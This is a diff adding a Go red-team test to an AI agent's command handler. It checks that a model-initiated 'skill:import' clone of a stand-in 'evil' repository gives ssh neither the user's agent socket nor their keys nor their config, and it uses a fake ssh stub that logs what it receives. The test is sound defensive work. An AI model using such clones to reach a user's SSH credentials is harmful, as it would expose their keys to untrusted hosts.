@@ -88,3 +88,60 @@ func findInTree(t *testing.T, dir, needle string) string {
 	}
 	return found
 }
+
+// TestRedTeamCloneSSHCredentials: skill:import git@host:… makes the host run
+// git, which runs ssh. For a command the model chose, ssh must get neither
+// the user's agent nor their keys nor their ssh config; when the user typed
+// the command (synapse exec), it keeps them. A stand-in ssh first on PATH
+// records what it was given (real git runs it) and fails the clone.
+func TestRedTeamCloneSSHCredentials(t *testing.T) {
+	testutil.RequireTool(t, "git")
+	bin, rec := t.TempDir(), filepath.Join(t.TempDir(), "ssh.log")
+	testutil.WriteFile(t, filepath.Join(bin, "ssh"), "#!/bin/sh\n{ echo \"args: $*\"; echo \"agent: ${SSH_AUTH_SOCK:-none}\"; } >> "+rec+"\nexit 255\n")
+	if err := os.Chmod(filepath.Join(bin, "ssh"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))
+	t.Setenv("SSH_AUTH_SOCK", "/run/user/agent.sock")
+	t.Setenv("GIT_SSH_COMMAND", "ssh -i /home/u/.ssh/id_rsa")
+
+	for _, tc := range []struct {
+		name      string
+		policy    ClonePolicy
+		wantAgent bool
+	}{
+		{"model asked, user approved", ClonePolicy{Approve: func(context.Context, string) bool { return true }}, false},
+		{"user typed it", ClonePolicy{UserTyped: true}, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			_ = os.Remove(rec)
+			h, _ := newTestHandler(t)
+			h.Clone = tc.policy
+			r := h.Run(context.Background(), "skill:import git@git.example.invalid:evil/skills.git")
+			if r.ExitCode == 0 {
+				t.Fatalf("the clone succeeded: %+v", r)
+			}
+			data, err := os.ReadFile(rec)
+			if err != nil {
+				t.Fatalf("ssh never ran (%v): %+v", err, r)
+			}
+			log := string(data)
+			if tc.wantAgent {
+				if !strings.Contains(log, "agent: /run/user/agent.sock") || !strings.Contains(log, "/home/u/.ssh/id_rsa") {
+					t.Errorf("the user's own command lost their credentials:\n%s", log)
+				}
+				return
+			}
+			for _, bad := range []string{"agent.sock", "id_rsa"} {
+				if strings.Contains(log, bad) {
+					t.Errorf("ssh got the user's %s:\n%s", bad, log)
+				}
+			}
+			for _, want := range []string{"IdentityAgent=none", "BatchMode=yes", "-F /dev/null", "IdentitiesOnly=yes"} {
+				if !strings.Contains(log, want) {
+					t.Errorf("ssh lacks %s:\n%s", want, log)
+				}
+			}
+		})
+	}
+}
